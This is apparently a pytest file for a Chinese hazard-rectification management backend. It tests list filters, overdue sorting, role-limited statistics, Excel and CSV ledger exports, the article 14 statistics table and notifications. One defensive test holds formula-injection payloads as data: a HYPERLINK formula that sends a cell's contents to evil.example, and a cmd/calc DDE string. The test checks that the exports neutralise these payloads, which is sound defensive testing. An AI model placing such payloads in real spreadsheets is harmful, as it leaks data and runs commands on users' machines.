"""Hazard lists (filters, sorting, overdue days), statistics, the ledger exports, the 16号令
第十四条 statistics table, and notifications."""

import csv
import io
from datetime import UTC, datetime, timedelta

from openpyxl import load_workbook

from backend.core.spreadsheets import XLSX_MIME
from backend.core.timeutil import today_in_shanghai
from backend.hazards.reports import period_of
from backend.models import Notification


def _ids(response):
    assert response.status_code == 200, response.json
    return [hazard["id"] for hazard in response.json]


def _days_ago(days):
    return today_in_shanghai() - timedelta(days=days)


def test_list_filters(client, world, make_hazard):
    ent, ent2, far = (world["enterprises"][name] for name in ("ent", "ent2", "far"))
    late = make_hazard("rectifying", due_on=_days_ago(10), grade="major")
    slightly_late = make_hazard("reported", due_on=_days_ago(1))
    on_time = make_hazard("submitted", due_in_days=5)
    closed_late = make_hazard("closed", due_on=_days_ago(30))
    machinery = make_hazard("reported", enterprise=ent2, due_in_days=2)
    make_hazard("reported", enterprise=far, due_on=_days_ago(3))
    headers = world["headers"]["supervisor"]

    def listed(query=""):
        return set(_ids(client.get(f"/api/v1/hazards?{query}", headers=headers)))

    everything = {late.id, slightly_late.id, on_time.id, closed_late.id, machinery.id}
    assert listed() == everything  # `far` lies outside the supervisor's district
    assert listed("overdue=true") == {late.id, slightly_late.id}
    assert listed("overdue=false") == {on_time.id, closed_late.id, machinery.id}
    assert listed("min_days_overdue=2") == {late.id}
    assert listed("min_days_overdue=0") == everything
    assert listed("status=closed") == {closed_late.id}
    assert listed("grade=major") == {late.id}
    assert listed(f"enterprise_id={ent.id}") == everything - {machinery.id}
    assert listed(f"jurisdiction_id={world['nodes']['s2'].id}") == {machinery.id}
    assert listed(f"jurisdiction_id={world['nodes']['s'].id}") == everything - {machinery.id}
    assert listed("industry=industry_trade") == {machinery.id}
    assert listed("industry=industry_trade.machinery") == {machinery.id}
    assert listed("industry=hazardous_chemicals") == everything - {machinery.id}
    due_from = _days_ago(10).isoformat()
    due_to = _days_ago(1).isoformat()
    assert listed(f"due_from={due_from}&due_to={due_to}") == {late.id, slightly_late.id}
    outside = client.get(
        f"/api/v1/hazards?jurisdiction_id={world['nodes']['x'].id}", headers=headers
    )
    assert outside.status_code == 404
    assert client.get("/api/v1/hazards?sort=colour", headers=headers).status_code == 422
    assert client.get("/api/v1/hazards?overdue=maybe", headers=headers).status_code == 422


def test_list_shows_overdue_days_and_sorts(client, world, make_hazard):
    late = make_hazard("rectifying", due_on=_days_ago(10))
    slightly = make_hazard("reported", due_on=_days_ago(1))
    future = make_hazard("reported", due_in_days=5)
    closed = make_hazard("closed", due_on=_days_ago(30))
    headers = world["headers"]["inspector"]
    body = {h["id"]: h for h in client.get("/api/v1/hazards", headers=headers).json}
    assert (body[late.id]["overdue"], body[late.id]["days_overdue"]) == (True, 10)
    assert (body[slightly.id]["overdue"], body[slightly.id]["days_overdue"]) == (True, 1)
    assert (body[future.id]["overdue"], body[future.id]["days_overdue"]) == (False, 0)
    assert (body[closed.id]["overdue"], body[closed.id]["days_overdue"]) == (False, 0)
    expected_since = datetime.combine(late.due_on + timedelta(days=1), datetime.min.time())
    assert body[late.id]["overdue_since"] == expected_since.isoformat() + "+08:00"

    def order(sort):
        return _ids(client.get(f"/api/v1/hazards?sort={sort}", headers=headers))

    assert order("due_on") == [closed.id, late.id, slightly.id, future.id]
    assert order("-due_on") == [future.id, slightly.id, late.id, closed.id]
    assert order("-days_overdue")[:2] == [late.id, slightly.id]
    assert order("days_overdue")[-2:] == [slightly.id, late.id]
    assert order("reported_at") == [late.id, slightly.id, future.id, closed.id]
    assert order("-reported_at") == [closed.id, future.id, slightly.id, late.id]


def test_stats_for_supervisors_and_admins_only(client, world, make_hazard, session):
    ent2 = world["enterprises"]["ent2"]
    closed = make_hazard("closed", due_in_days=3)
    closed.reported_at = datetime(2026, 1, 10, 2, 0, tzinfo=UTC)
    closed.closed_at = datetime(2026, 1, 13, 2, 0, tzinfo=UTC)  # 3 days to close
    make_hazard("rectifying", due_on=_days_ago(4))
    make_hazard("reported", enterprise=ent2, due_in_days=3, self_reported=True)
    make_hazard("reported", enterprise=world["enterprises"]["far"])
    session.commit()
    for role in ("inspector", "manager", "viewer"):
        assert (
            client.get("/api/v1/hazards/stats", headers=world["headers"][role]).status_code == 403
        )
    response = client.get("/api/v1/hazards/stats", headers=world["headers"]["supervisor"])
    assert response.status_code == 200, response.json
    stats = response.json
    assert stats["totals"] == {
        "total": 3,
        "open": 2,
        "overdue": 1,
        "closed": 1,
        "self_reported": 1,
        "rectification_rate": round(1 / 3, 4),
        "mean_days_to_close": 3.0,
        "awaiting_verification": 0,
        "mean_days_awaiting_verification": None,
        "max_days_awaiting_verification": None,
    }
    nodes = {row["name"]: row for row in stats["by_jurisdiction"]}
    assert nodes["S2街道"]["self_reported"] == 1 and nodes["G网格"]["self_reported"] == 0
    assert set(nodes) == {"D区", "S街道", "G网格", "S2街道"}
    assert nodes["D区"]["total"] == 3
    assert nodes["S街道"]["total"] == nodes["G网格"]["total"] == 2
    assert nodes["S2街道"]["total"] == 1 and nodes["S2街道"]["parent_id"] == world["nodes"]["d"].id
    industries = {row["industry"]: row for row in stats["by_industry"]}
    assert industries["hazardous_chemicals"]["total"] == 2
    assert industries["industry_trade.machinery"]["name"] == "工贸·机械"
    months = {row["month"]: row["total"] for row in stats["by_month"]}
    assert months["2026-01"] == 1
    street = client.get("/api/v1/hazards/stats", headers=world["headers"]["street_supervisor"]).json
    assert street["totals"]["total"] == 2
    assert {row["name"] for row in street["by_jurisdiction"]} == {"S街道", "G网格"}
    admin = client.get("/api/v1/hazards/stats?grade=major", headers=world["headers"]["admin"])
    assert admin.status_code == 200 and admin.json["totals"]["total"] == 0
    assert admin.json["totals"]["rectification_rate"] is None
    january = client.get(
        "/api/v1/hazards/stats?reported_from=2026-01-01&reported_to=2026-01-31",
        headers=world["headers"]["global_admin"],
    ).json
    assert january["totals"]["total"] == 1


def test_ledger_xlsx_has_chinese_headers_scope_and_filters(client, world, make_hazard):
    late = make_hazard("rectifying", due_on=_days_ago(6), grade="major", title="液氨管道腐蚀")
    make_hazard("reported", due_in_days=5)
    make_hazard("reported", enterprise=world["enterprises"]["far"])
    response = client.get(
        "/api/v1/hazards/export.xlsx?overdue=true", headers=world["headers"]["supervisor"]
    )
    assert response.status_code == 200
    assert response.mimetype == XLSX_MIME
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet.title == "隐患台账"
    rows = list(sheet.values)
    headers = rows[0]
    for title in (
        "隐患编号",
        "企业名称",
        "统一社会信用代码",
        "隐患描述",
        "隐患等级",
        "状态",
        "整改期限",
        "是否逾期",
        "逾期天数",
        "登记时间",
        "销号时间",
        "依据",
    ):
        assert title in headers, title
    assert len(rows) == 2
    row = dict(zip(headers, rows[1], strict=True))
    assert row["隐患编号"] == late.id
    assert row["企业名称"] == "甲化工"
    assert row["统一社会信用代码"] == world["enterprises"]["ent"].uscc
    assert row["隐患描述"].startswith("液氨管道腐蚀")
    assert row["隐患等级"] == "重大事故隐患"
    assert row["状态"] == "整改中"
    assert row["是否逾期"] == "是" and row["逾期天数"] == 6


def test_ledger_csv_has_a_bom_and_the_enterprise_sees_only_its_own(client, world, make_hazard):
    own = make_hazard()
    make_hazard(enterprise=world["enterprises"]["ent2"])
    response = client.get("/api/v1/hazards/export.csv", headers=world["headers"]["viewer"])
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][0] == "隐患编号" and "企业名称" in rows[0]
    assert [row[0] for row in rows[1:]] == [own.id]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_user_text_stays_text_in_the_ledger_files(client, world, make_hazard):
    """A title that looks like a formula must not become a live formula in the supervisor's
    spreadsheet program (CSV / formula injection)."""
    make_hazard(title=FORMULA)
    make_hazard(title="＋cmd|' /C calc'!A0")
    headers = world["headers"]["supervisor"]
    sheet = load_workbook(
        io.BytesIO(client.get("/api/v1/hazards/export.xlsx", headers=headers).data)
    ).active
    column = [cell.value for cell in sheet[1]].index("隐患描述") + 1
    cells = [row[0] for row in sheet.iter_rows(min_row=2, min_col=column, max_col=column)]
    titles = {cell.value: cell.data_type for cell in cells}
    assert any(value.startswith(FORMULA) for value in titles)
    assert set(titles.values()) == {"s"}  # text cells, never formulas
    rows = list(
        csv.reader(
            io.StringIO(
                client.get("/api/v1/hazards/export.csv", headers=headers).data.decode("utf-8-sig")
            )
        )
    )
    described = [row[rows[0].index("隐患描述")] for row in rows[1:]]
    assert described and all(value.startswith("'") for value in described)


def test_enterprise_statistics_per_16_order_article_14(client, world, make_hazard, session):
    ent = world["enterprises"]["ent"]
    in_q1 = datetime(2026, 2, 10, 1, 0, tzinfo=UTC)

    def q1_hazard(status, grade="general", due=None, closed_at=None):
        hazard = make_hazard(status, grade=grade)
        hazard.reported_at = in_q1
        hazard.due_on = due or datetime(2026, 3, 1).date()
        hazard.closed_at = closed_at
        return hazard

    q1_hazard("closed", closed_at=datetime(2026, 2, 20, tzinfo=UTC))
    q1_hazard("closed", grade="major", closed_at=datetime(2026, 3, 5, tzinfo=UTC))
    q1_hazard("closed", closed_at=datetime(2026, 4, 2, tzinfo=UTC))  # after the quarter
    q1_hazard("rectifying", grade="major", due=datetime(2026, 3, 31).date())  # due on last day
    q1_hazard("reported", due=datetime(2026, 4, 30).date())
    # 2026-03-31T16:30Z is still March 31 in UTC but 00:30 on April 1 in Shanghai: Q2.
    q2 = make_hazard("reported")
    q2.reported_at = datetime(2026, 3, 31, 16, 30, tzinfo=UTC)
    session.commit()
    url = f"/api/v1/enterprises/{ent.id}/hazard-statistics"
    response = client.get(f"{url}?year=2026&quarter=1", headers=world["headers"]["manager"])
    assert response.status_code == 200, response.json
    stats = response.json
    assert stats["period_start"] == "2026-01-01" and stats["period_end"] == "2026-03-31"
    assert stats["report_due_on"] == "2026-04-15"
    assert (stats["found"], stats["major"]) == (5, 2)
    assert (stats["rectified"], stats["major_rectified"]) == (2, 1)
    assert stats["rectification_rate"] == 0.4
    # At the end of March 31: the one due 03-01 that closed only in April was overdue; the one
    # due 03-31 and the one due in April were still in progress.
    assert (stats["in_progress"], stats["overdue"]) == (2, 1)
    assert sorted(hazard["status"] for hazard in stats["major_hazards"]) == ["closed", "rectifying"]
    annual = client.get(f"{url}?year=2026", headers=world["headers"]["supervisor"]).json
    assert annual["report_due_on"] == "2027-01-31" and annual["found"] == 6
    other = client.get(url, headers=world["headers"]["manager2"])
    assert other.status_code == 404
    xlsx = client.get(f"{url}.xlsx?year=2026&quarter=1", headers=world["headers"]["viewer"])
    assert xlsx.status_code == 200 and xlsx.mimetype == XLSX_MIME
    workbook = load_workbook(io.BytesIO(xlsx.data))
    values = [cell for row in workbook["统计分析表"].values for cell in row if cell is not None]
    assert "生产经营单位事故隐患排查治理统计分析表" in values
    assert "排查发现隐患数" in values and "逾期未整改数" in values
    assert "主要负责人（签字）" in values and "李四" in values
    assert "40.00%" in values
    assert workbook["重大事故隐患"].max_row == 3
    states = sorted(
        row[2] for row in workbook["重大事故隐患"].iter_rows(min_row=2, values_only=True)
    )
    assert states == ["已销号", "整改中"]  # a Chinese document shows no status codes
    assert client.get(f"{url}?quarter=5", headers=world["headers"]["viewer"]).status_code == 422


def test_periods():
    assert period_of(2026, 4)[1:] == (datetime(2026, 12, 31).date(), datetime(2027, 1, 15).date())
    assert period_of(2026, 2)[0] == datetime(2026, 4, 1).date()


def test_notifications_are_the_callers_own(client, world, make_hazard, session):
    hazard = make_hazard()
    manager, viewer = world["users"]["manager"], world["users"]["viewer"]
    for index, user in enumerate((manager, manager, viewer)):
        session.add(
            Notification(
                recipient_id=user.id,
                kind="hazard_overdue",
                hazard_id=hazard.id,
                payload={"n": index},
                dedupe_key=f"test:{index}",
                attempts=0,
            )
        )
    session.commit()
    headers = world["headers"]["manager"]
    mine = client.get("/api/v1/notifications", headers=headers)
    assert mine.status_code == 200
    assert [item["payload"]["n"] for item in mine.json] == [1, 0]
    first = mine.json[1]["id"]
    read = client.post(f"/api/v1/notifications/{first}/read", headers=headers)
    assert read.status_code == 200 and read.json["read_at"] is not None
    again = client.post(f"/api/v1/notifications/{first}/read", headers=headers)
    assert again.json["read_at"] == read.json["read_at"]
    unread = client.get("/api/v1/notifications?unread=true", headers=headers).json
    assert [item["payload"]["n"] for item in unread] == [1]
    done = client.get("/api/v1/notifications?unread=false", headers=headers).json
    assert [item["payload"]["n"] for item in done] == [0]
    viewers = client.get("/api/v1/notifications", headers=world["headers"]["viewer"]).json
    not_mine = client.post(f"/api/v1/notifications/{viewers[0]['id']}/read", headers=headers)
    assert not_mine.status_code == 404
    paged = client.get("/api/v1/notifications?page_size=1", headers=headers)
    assert len(paged.json) == 1 and "X-Pagination" in paged.headers
